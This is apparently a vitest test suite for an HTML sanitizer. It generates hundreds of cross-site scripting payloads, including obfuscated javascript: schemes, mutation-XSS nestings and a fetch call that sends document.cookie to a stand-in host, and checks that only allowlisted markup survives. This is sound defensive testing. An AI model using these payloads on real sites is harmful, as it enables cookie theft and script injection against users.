import { describe, expect, it } from "vitest";
import { cleanHtml } from "./clean-html.ts";

/** Carriers × payloads: what a person could type, paste or get into the table by another way. */
const codes = ["alert(1)", "fetch('//x.example/'+document.cookie)", "top.location='//x.example'"];
const handlers = [
  "onerror",
  "onload",
  "onclick",
  "onmouseover",
  "onfocus",
  "ontoggle",
  "onanimationstart",
  "onpointerup",
];
const tags = ["img", "svg", "a", "p", "video", "details", "input", "body", "iframe", "math", "table", "b"];
const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "javascript&colon;",
  " javascript:",
  "\u0001javascript:",
  "vbscript:",
  "data:text/html,",
  "data:text/html;base64,",
  "file:///",
  "//x.example/",
  "\\\\x.example\\",
  "blob:",
];

const byHandler = tags.flatMap((tag) =>
  handlers.flatMap((handler) => codes.map((code) => `<${tag} src=x ${handler}="${code}">word</${tag}>`)),
);
const byScheme = schemes.flatMap((scheme) =>
  codes.flatMap((code) => [
    `<a href="${scheme}${code}">word</a>`,
    `<img src="${scheme}${code}" alt="word">`,
    `<form action="${scheme}${code}"><button formaction="${scheme}${code}">word</button></form>`,
    `<iframe src="${scheme}${code}">word</iframe>`,
    `<svg><a xlink:href="${scheme}${code}"><text>word</text></a></svg>`,
    `<meta http-equiv="refresh" content="0;url=${scheme}${code}">`,
  ]),
);
const byShape = codes.flatMap((code) => [
  `<script>${code}</script>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<SCRIPT/SRC=//x.example>`,
  `<script\n>${code}</script\n>`,
  `<style>*{background:url(javascript:${code})}</style>`,
  `<p style="background:url(javascript:${code})">word</p>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
  `<template><img src=x onerror=${code}></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${code}>"></textarea>`,
  `<!--><img src=x onerror=${code}>-->`,
  `<![CDATA[><img src=x onerror=${code}>]]>`,
  `<object data="data:text/html,<script>${code}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${code}>">`,
  `<link rel=stylesheet href=//x.example>`,
  `<base href="//x.example/">`,
  `<img src="/art/../../x" onerror=${code}>`,
  `<img src="https://x.example/pixel.png">`,
  `<a href="https://x.example" target="_top" onclick="${code}">word</a>`,
  `<x onclick=${code}>word</x>`,
  `"><img src=x onerror=${code}>`,
  `<p/onclick=${code}>word`,
  `<p onclick\u000c=${code}>word`,
  `<b\u0000 onmouseover=${code}>word</b>`,
]);
const corpus = [...byHandler, ...byScheme, ...byShape];

const allowed = new Set(
  ["p", "br", "hr", "h2", "h3", "h4", "strong", "b", "em", "i", "u", "s", "small", "ul", "ol", "li", "a"].concat([
    "blockquote",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "img",
  ]),
);

/** Every tag of a clean text with its attributes, read by the strictest grammar there is. */
function tagsOf(html: string): { name: string; attributes: [string, string][] }[] {
  return [...html.matchAll(/<([^>]*)>/g)].map(([, inside = ""]) => {
    const match = /^\/?([a-z0-9]+)((?: [a-z]+="[^"<>]*")*) ?\/?$/.exec(inside);
    expect(match, inside).not.toBeNull();
    const attributes = [...(match?.[2] ?? "").matchAll(/([a-z]+)="([^"]*)"/g)];
    return { name: match?.[1] ?? "", attributes: attributes.map(([, name = "", value = ""]) => [name, value]) };
  });
}

const allowedAttributes = new Set(["href", "target", "rel", "src", "alt", "colspan"]);
const safeValues: Readonly<Record<string, RegExp>> = {
  href: /^(?:https:\/\/|mailto:|tel:|viber:|tg:|\/(?!\/))/,
  src: /^\/(?:art|media)\/(?!.*\.\.)/,
};

function expectHarmless({ name, attributes }: ReturnType<typeof tagsOf>[number], clean: string): void {
  expect(allowed.has(name), clean).toBe(true);
  for (const [attribute, value] of attributes) {
    expect(allowedAttributes.has(attribute), clean).toBe(true);
    expect(value, clean).toMatch(safeValues[attribute] ?? /^/);
  }
}

describe("cleaning rich text", () => {
  it(`leaves nothing that runs of ${corpus.length} attacks`, () => {
    expect(corpus.length).toBeGreaterThan(500);
    for (const attack of corpus) {
      const clean = cleanHtml(attack);
      for (const tag of tagsOf(clean)) expectHarmless(tag, clean);
      expect(cleanHtml(clean), attack).toBe(clean);
    }
  });

  it("keeps what a writer needs", () => {
    const text =
      "<h2>Rules</h2><p>From <strong>₱100</strong>, <em>once</em>.</p><ul><li>One</li></ul>" +
      '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table><p><a href="/promotions">All</a></p>';
    expect(cleanHtml(text)).toBe(text);
  });

  it("opens links that leave the portal beside it, and tells the other side nothing", () => {
    expect(cleanHtml('<a href="https://x.example/a">x</a>')).toBe(
      '<a href="https://x.example/a" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });
});
